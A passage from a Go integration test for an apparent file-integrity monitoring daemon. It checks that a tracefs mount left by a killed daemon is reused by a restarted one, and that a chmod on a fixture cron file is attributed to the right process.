		d := startWatch(t, fx, out, "--attribution", "kernel")
		if ready := d.waitLog(t, "msg=ready"); !strings.Contains(ready, "mounted tracefs at /sys/kernel/tracing") {
			t.Fatalf("the first daemon did not mount tracefs: %s", ready)
		}
		if err := d.cmd.Process.Kill(); err != nil {
			t.Fatal(err)
		}
		<-d.done
		if top, want := mountinfoTop(t, "/sys/kernel/tracing"), fmt.Sprintf("tracefs tripline-%d", d.cmd.Process.Pid); top != want {
			t.Fatalf("after SIGKILL: %q at /sys/kernel/tracing, want the tracefs the daemon left (%s)", top, want)
		}

		d = startWatch(t, fx, out, "--attribution", "kernel")
		if ready := d.waitLog(t, "msg=ready"); !strings.Contains(ready, "reused the tracefs") {
			t.Errorf("the second daemon did not say it reused the left tracefs: %s", ready)
		}
		pid := act(t, "chmod", "+x", fx.path("etc/cron.daily/backup"))
		if e := d.waitEvent(t, "/etc/cron.daily/backup", nil); !kernelNamed(e.Tripline.Attribution) || e.pid() != pid {
			t.Errorf("%v: want the kernel feed naming the chmod (pid %d) on the reused tracefs", e, pid)
		}
		d.stop(t)
		if top := mountinfoTop(t, "/sys/kernel/tracing"); top != "" {
			t.Errorf("after the second daemon stopped: %q still at /sys/kernel/tracing", top)
		}
	})
}
